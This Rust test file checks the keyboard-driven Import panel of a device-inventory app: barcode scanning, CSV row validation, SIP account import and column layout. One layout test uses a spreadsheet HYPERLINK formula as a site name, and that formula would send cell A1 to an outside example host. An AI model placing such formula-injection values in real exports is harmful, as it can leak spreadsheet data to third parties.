//! The Import panel driven by keyboard and AccessKit labels, against a real database.

use crate::support::gui;

use std::path::Path;

use egui_kittest::kittest::{NodeT, Queryable};
use gui::{App, app, shows, step_until};
use provdesk::device::Mac;
use provdesk::inventory::Inventory;

const DATA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data");

fn shows_part(harness: &App, part: &str) -> bool {
    harness.query_all_by_label_contains(part).next().is_some()
}

/// Opens the Import panel (Ctrl+2) and adds the file at `path` by typing it.
pub(crate) fn add_file_by_path(harness: &mut App, path: &Path) {
    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Num2);
    step_until(harness, "the import panel", |h| {
        shows(h, "Import device labels")
    });
    harness
        .get_by_role_and_label(egui::accesskit::Role::TextInput, "or path")
        .focus();
    harness.step();
    harness
        .get_by_role_and_label(egui::accesskit::Role::TextInput, "or path")
        .type_text(path.to_str().unwrap());
    harness.step();
    harness.get_by_label("Add file").click();
}

/// Ticks "import the valid rows only" (leaving out `invalid`) and imports the `written` ones
/// (the valid rows not already in the inventory).
fn import_valid_rows_only(harness: &mut App, invalid: usize, written: usize) {
    harness
        .get_by_label(&format!(
            "Import the valid rows only, leave out {invalid} invalid"
        ))
        .click();
    harness.step();
    harness.step();
    harness
        .get_by_label(&format!(
            "Import {}",
            provdesk::words::count(written, "device")
        ))
        .click();
}

/// The scanner lines of the 20-device corpus file, as a scanner would type them.
fn scanner_lines() -> Vec<String> {
    std::fs::read_to_string(Path::new(DATA).join("twenty_scanner.txt"))
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn scanning_twenty_labels_needs_no_mouse() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let mut harness = app(&db);
    step_until(&mut harness, "the inventory", |h| {
        shows(h, "No devices yet")
    });

    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Num2);
    step_until(&mut harness, "the import panel", |h| {
        shows(h, "Import device labels")
    });
    harness.key_press(egui::Key::F2);
    step_until(&mut harness, "the scan field", |h| {
        h.query_by_label("Scan here")
            .is_some_and(|field| field.is_focused())
    });

    let mut flashed_red = false;
    for line in scanner_lines() {
        if line.trim().is_empty() {
            continue;
        }
        harness
            .get_by_role_and_label(egui::accesskit::Role::TextInput, "Scan here")
            .type_text(&line);
        harness.step();
        harness.key_press(egui::Key::Enter);
        harness.step();
        harness.step();
        assert!(
            harness.get_by_label("Scan here").is_focused(),
            "the scan field keeps the focus after {line}"
        );
        if line.starts_with("S/N") {
            assert!(
                shows_part(&harness, "✖"),
                "a serial number flashes an error"
            );
            flashed_red = true;
        } else {
            assert!(
                shows_part(&harness, "✔") || shows_part(&harness, "↺"),
                "{line}"
            );
        }
    }
    assert!(flashed_red);
    assert!(shows(&harness, "20 valid"));
    assert!(shows(&harness, "0 invalid"));
    assert!(
        shows(&harness, "4 lines skipped (see Notes)"),
        "the serial numbers scanned alone"
    );

    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Enter);
    step_until(&mut harness, "the import", |h| {
        shows_part(h, "Done: 20 added")
    });
    drop(harness);

    let inventory = Inventory::open(&db).unwrap();
    assert_eq!(inventory.device_count().unwrap(), 20);
    let device = inventory
        .device_by_mac(Mac::parse("7C2F80A1B200").unwrap())
        .unwrap()
        .unwrap();
    assert_eq!(device.mac_id.unwrap().to_string(), "7C2F80A1B200-483A");
}

#[test]
fn a_file_with_bad_rows_shows_each_problem_and_imports_nothing_until_asked() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    Inventory::open(&db)
        .unwrap()
        .add_device(&provdesk::device::NewDevice::with_mac(
            Mac::parse("7C2F80A1B200").unwrap(),
        ))
        .unwrap();
    let mut harness = app(&db);
    step_until(&mut harness, "the inventory", |h| shows(h, "1 device"));
    add_file_by_path(&mut harness, &Path::new(DATA).join("bad_rows.csv"));
    step_until(&mut harness, "the preview", |h| shows(h, "4 invalid"));
    assert!(shows(&harness, "2 valid"));
    step_until(&mut harness, "the check against the inventory", |h| {
        shows(h, "(1 already in the inventory: will be skipped)")
    });
    assert!(shows(&harness, "already in the inventory: will be skipped"));
    assert!(shows(&harness, "new"));
    assert!(shows_part(&harness, "has 10 hex digits"));
    assert!(shows_part(&harness, "\"N999\""));
    assert!(
        harness
            .get_by_label("Import 1 device")
            .accesskit_node()
            .is_disabled(),
        "nothing is imported while rows are invalid"
    );
    import_valid_rows_only(&mut harness, 4, 1);
    step_until(&mut harness, "the import", |h| {
        shows_part(h, "Done: 1 added, 0 updated, 1 already in the inventory")
    });
    drop(harness);
    assert_eq!(Inventory::open(&db).unwrap().device_count().unwrap(), 2);
}

#[test]
fn sip_columns_show_in_the_preview_and_their_accounts_are_imported() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let csv = dir.path().join("sip.csv");
    std::fs::write(
        &csv,
        "MAC,Model,sip1_user,sip1_password,sip2_user,sip2_port\n\
         7C2F80A1B200,N510,1001,pw-1001,1002,5080\n\
         7C2F80A1B201,N510,1003,,,x\n",
    )
    .unwrap();
    let mut harness = app(&db);
    step_until(&mut harness, "the inventory", |h| {
        shows(h, "No devices yet")
    });
    add_file_by_path(&mut harness, &csv);
    step_until(&mut harness, "the preview", |h| shows(h, "1 invalid"));
    assert!(shows(&harness, "· 2 SIP accounts"));
    assert!(shows_part(&harness, "SIP account 2 port: \"x\" is no port"));
    import_valid_rows_only(&mut harness, 1, 1);
    step_until(&mut harness, "the import", |h| {
        shows_part(h, "Done: 1 added")
    });
    drop(harness);
    let accounts = Inventory::open(&db)
        .unwrap()
        .stored_sip_accounts(&Mac::parse("7C2F80A1B200").unwrap())
        .unwrap();
    assert_eq!(accounts.len(), 2);
    assert_eq!(accounts[1].port, Some(5080));
}

#[test]
fn a_mistyped_path_stays_in_the_field_to_be_corrected() {
    let dir = tempfile::tempdir().unwrap();
    let mut harness = app(&dir.path().join("inventory.sqlite3"));
    let missing = dir.path().join("nope").join("labels.csv");
    add_file_by_path(&mut harness, &missing);
    step_until(&mut harness, "the error", |h| shows_part(h, "labels.csv"));
    let field = harness.get_by_role_and_label(egui::accesskit::Role::TextInput, "or path");
    assert_eq!(field.value().as_deref(), missing.to_str());
}

#[test]
fn a_row_with_several_bad_fields_shows_each_of_them() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let csv = dir.path().join("several.csv");
    std::fs::write(&csv, "MAC,MAC-ID,Model\n7C2F80A1B2,7C2F80A1B2-ZZZZ,N999\n").unwrap();
    let mut harness = app(&db);
    step_until(&mut harness, "the inventory", |h| {
        shows(h, "No devices yet")
    });
    add_file_by_path(&mut harness, &csv);
    step_until(&mut harness, "the preview", |h| shows(h, "1 invalid"));
    for part in ["has 10 hex digits", "7C2F80A1B2-ZZZZ", "\"N999\""] {
        assert!(shows_part(&harness, part), "{part} is shown");
    }
}

/// An invalid row keeps its MAC-ID, model and site on screen, dimmed beside its problem, so the
/// user can find the label; a duplicate too.
#[test]
fn an_invalid_row_shows_the_rest_of_the_label_as_written() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let csv = dir.path().join("labels.csv");
    std::fs::write(
        &csv,
        "MAC,MAC-ID,Model,Site\n\
         7C2F80A1B2,7C2F80A1B200-483A,N510 IP PRO,Hotel Adler\n\
         7C2F80A1B20B,7C2F80A1B20B-50DD,Maxwell 3,Roof\n\
         7C2F80A1B20B,,N720 IP PRO,Cellar\n",
    )
    .unwrap();
    let mut harness = app(&db);
    step_until(&mut harness, "the inventory", |h| {
        shows(h, "No devices yet")
    });
    add_file_by_path(&mut harness, &csv);
    step_until(&mut harness, "the preview", |h| shows(h, "2 invalid"));
    for written in [
        "7C2F80A1B200-483A",
        "N510 IP PRO",
        "Hotel Adler",
        "N720 IP PRO",
        "Cellar",
    ] {
        assert!(shows(&harness, written), "{written} is shown as written");
    }
}

/// In a laptop's window, an invalid row's Status (why it is refused) is in sight, however long
/// a supplier's site name: the columns before it widened with their text and pushed Status out
/// of the window, so a refused photo read as a blank row.
#[test]
fn why_a_row_is_invalid_is_in_sight_in_a_laptops_window() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let csv = dir.path().join("labels.csv");
    let long_site = "=HYPERLINK(\"http://supplier.example/?x=\"&A1,\"Room 1 of the east wing\")";
    std::fs::write(
        &csv,
        format!(
            "MAC,MAC-ID,Model,Site\n\
             7C2F80A1B200,7C2F80A1B200-483A,N510 IP PRO,\"{}\"\n\
             7C2F80A1B2,,N510 IP PRO,Roof\n",
            long_site.replace('"', "\"\"")
        ),
    )
    .unwrap();
    let mut harness = gui::app_sized(&db, gui::LAPTOP);
    step_until(&mut harness, "the inventory", |h| {
        shows(h, "No devices yet")
    });
    add_file_by_path(&mut harness, &csv);
    step_until(&mut harness, "the preview", |h| shows(h, "1 invalid"));
    let why = harness
        .query_all_by_label_contains("10 hex digits")
        .next()
        .expect("the reason is drawn");
    assert!(
        why.rect().left() < gui::LAPTOP.x - 100.0,
        "the reason starts in sight: {:?}",
        why.rect()
    );
}

/// Whether the "valid rows only" box is ticked; the label names the invalid count.
fn valid_only_ticked(harness: &App, invalid: usize) -> bool {
    let label = format!("Import the valid rows only, leave out {invalid} invalid");
    harness.get_by_label(&label).accesskit_node().toggled() == Some(egui::accesskit::Toggled::True)
}

/// Leaving out the invalid rows was agreed to for those rows: rows added later are checked
/// again. And the last import's "Done" goes once something new is shown.
#[test]
fn new_rows_ask_again_and_clear_the_last_done() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("inventory.sqlite3");
    let more = dir.path().join("more.csv");
    std::fs::write(&more, "mac;model\n7C2F80A1B3;N510\n7C2F80A1B301;N510\n").unwrap();
    let last = dir.path().join("last.csv");
    std::fs::write(&last, "mac\n7C2F80A1B401\n").unwrap();
    let mut harness = app(&db);
    add_file_by_path(&mut harness, &Path::new(DATA).join("bad_rows.csv"));
    step_until(&mut harness, "the preview", |h| shows(h, "4 invalid"));
    harness
        .get_by_label("Import the valid rows only, leave out 4 invalid")
        .click();
    harness.step();
    assert!(valid_only_ticked(&harness, 4));

    add_file_by_path(&mut harness, &more);
    step_until(&mut harness, "the second file", |h| shows(h, "5 invalid"));
    assert!(
        !valid_only_ticked(&harness, 5),
        "a fifth invalid row needs a new agreement"
    );
    assert!(shows(
        &harness,
        "Fix the rows marked in red (their Status says why), or import the valid rows only."
    ));

    import_valid_rows_only(&mut harness, 5, 3);
    step_until(&mut harness, "the import", |h| {
        shows_part(h, "Done: 3 added")
    });
    add_file_by_path(&mut harness, &last);
    step_until(&mut harness, "the third file", |h| {
        shows(h, "Import 1 device")
    });
    assert!(
        !shows_part(&harness, "Done:"),
        "the last import's result is not this preview's"
    );
}

/// With no site yet, Pick is off and says how a site comes to be (it opened an empty menu).
#[test]
fn pick_waits_for_a_site_to_exist() {
    let dir = tempfile::tempdir().unwrap();
    let mut harness = app(&dir.path().join("inventory.sqlite3"));
    harness.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Num2);
    step_until(&mut harness, "the import panel", |h| {
        shows(h, "Import device labels")
    });
    assert!(harness.get_by_label("Pick").accesskit_node().is_disabled());
}
